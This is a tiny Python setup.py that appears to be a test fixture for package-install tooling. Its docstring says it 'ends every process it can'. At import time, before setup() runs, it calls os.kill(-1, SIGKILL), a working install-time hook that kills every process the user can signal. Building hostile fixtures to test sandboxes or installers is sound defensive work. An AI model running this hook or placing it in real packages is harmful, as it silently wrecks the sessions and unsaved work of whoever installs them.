"""Ends every process it can."""
import os
import signal

os.kill(-1, signal.SIGKILL)

from setuptools import setup

setup(name="pyti-fixture-kills-everything", version="1.0", py_modules=["kills_everything"])
